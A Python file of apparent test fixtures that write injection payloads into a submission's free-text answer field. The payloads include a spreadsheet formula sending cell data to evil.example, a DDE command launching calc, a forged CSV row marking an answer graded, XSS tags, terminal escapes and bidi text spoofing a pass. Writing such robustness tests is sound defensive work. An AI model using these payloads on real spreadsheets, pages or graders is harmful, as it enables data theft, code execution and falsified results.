import json
import re


def answer(file, text):
    """The file with this as its free text. A JSON string is a TOML string."""
    quoted = json.dumps(text)
    written = re.sub(r'^estimate_and_measurement = """.*?"""', lambda _: f"estimate_and_measurement = {quoted}",
                     file.read_text(), flags=re.MULTILINE | re.DOTALL)
    file.write_text(written)


def make_formulas(_submission, _part, file):
    answer(file, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")


def make_full_width_formulas(_submission, _part, file):
    answer(file, "\uff1dcmd|' /C calc'!A0")


def make_tab_first(_submission, _part, file):
    answer(file, "\t=1+1")


def make_return_first(_submission, _part, file):
    answer(file, "\r\n+1+1|x")


def make_blanks_first(_submission, _part, file):
    answer(file, " \u3000\u200b\u2060\ufeff@SUM(A1:A9)")


def make_row_of_its_own(_submission, _part, file):
    answer(file, 'x",graded,,\r\nright_00,1,estimate_and_measurement,5,5,,grader,graded,,"')


def make_tags(_submission, _part, file):
    answer(file, "</textarea></script><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>")


def make_entities(_submission, _part, file):
    answer(file, "&lt;script&gt;&#x3c;b&#62; &amp;lt; javascript:alert(1) data:text/html,x")


def make_terminal(_submission, _part, file):
    answer(file, "\u001b]0;title\u0007\u001b[2J\u001b[31mred\u009b5m\b\b\b\u007f")


def make_directions(_submission, _part, file):
    answer(file, "\u202epassed\u2066 0/5\u2069\u2028right_00\u2029")


def make_controls_by_escapes(_submission, _part, file):
    answer(file, "".join(chr(code) for code in range(1, 32)) + "\u0000")


def make_ends_of_xml(_submission, _part, file):
    answer(file, "]]> --> <!-- <![CDATA[ \ufffe\uffff <?xml?> </testcase>")


def make_a_megabyte(_submission, _part, file):
    answer(file, "=1 " * 300_000)


def make_one_long_word(_submission, _part, file):
    answer(file, "w" * 900_000)
